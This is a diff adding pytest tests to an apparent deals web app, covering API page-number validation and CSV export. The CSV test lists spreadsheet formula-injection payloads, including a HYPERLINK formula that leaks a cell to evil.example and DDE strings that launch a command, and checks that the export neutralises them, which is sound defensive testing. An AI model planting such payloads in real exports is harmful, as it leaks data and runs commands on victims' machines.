@@ -36,6 +36,31 @@ def test_the_api_returns_raw_values_with_the_same_filters_sort_and_paging(client
     assert last["price_changed_at"].endswith("Z")  # ISO 8601, UTC
 
 
+@pytest.mark.parametrize(
+    ("page", "message"),
+    [
+        ("0", "That page number is less than 1."),
+        ("-1", "That page number is less than 1."),
+        (str(10**30), "That page contains no results."),
+        ("3", "That page contains no results."),
+        ("abc", "That page number is not an integer."),
+        ("1.5", "That page number is not an integer."),
+        ("9" * 5000, "That page number is not an integer."),
+    ],
+)
+def test_the_api_rejects_a_page_that_is_not_there_with_400(client, page, message):
+    many_deals(60)  # two pages
+    response = client.get("/api/deals", {"page": page})
+    assert response.status_code == 400
+    assert response.json() == {"errors": {"page": [{"message": message, "code": "invalid_page"}]}}
+
+
+def test_the_api_serves_page_one_of_no_deals(client):
+    response = client.get("/api/deals", {"page": 1})
+    assert response.status_code == 200
+    assert (response.json()["count"], response.json()["results"]) == (0, [])
+
+
 def test_the_api_rejects_invalid_filters_with_400(client):
     response = client.get("/api/deals?sales_rank_max=many")
     assert response.status_code == 400
@@ -55,6 +80,35 @@ def test_the_csv_streams_every_filtered_row_under_a_header_of_column_labels(clie
     assert [r[1] for r in rows[1:]] == [d.asin for d in deals]
     now = rows[1][[c.name for c in COLUMNS].index("now_price")]
     assert now == "10.00"
+
+
+HOSTILE_TITLES = [
+    '=HYPERLINK("http://evil.example/?leak="&A1,"Click for a discount")',
+    "+1+cmd|' /C calc'!A0",
+    "-2+3+cmd|' /C calc'!A0",
+    "@SUM(1+1)*cmd|' /C calc'!A0",
+    "\t=1+1",
+    "\r=1+1",
+]
+
+
+def test_the_csv_never_hands_a_spreadsheet_a_formula_and_keeps_numbers_numbers(client):
+    for i, title in enumerate(HOSTILE_TITLES):
+        make_deal(f"H{i:09d}", title=title, delta_percent=90 - i, profit=-250, roi_percent=-12)
+
+    response = client.get("/deals.csv")
+
+    rows = list(csv.reader(io.StringIO(b"".join(response.streaming_content).decode())))
+    names = [c.name for c in COLUMNS]
+    by_asin = {r[names.index("asin")]: r for r in rows[1:]}
+    for i, title in enumerate(HOSTILE_TITLES):
+        row = by_asin[f"H{i:09d}"]
+        # Shown as the seller wrote it, behind the quote a spreadsheet hides and does not run.
+        assert row[names.index("title")] == "'" + title
+        assert not any(cell.startswith(("=", "+", "@", "\t", "\r")) for cell in row)
+        # A loss is still a number a spreadsheet can sum, not neutralised text.
+        assert row[names.index("profit")] == "-2.50" and float(row[names.index("profit")]) < 0
+        assert float(row[names.index("roi_percent")]) == -12
 
 
 @pytest.mark.parametrize("url", ["/api/deals", "/api/total_deals"])
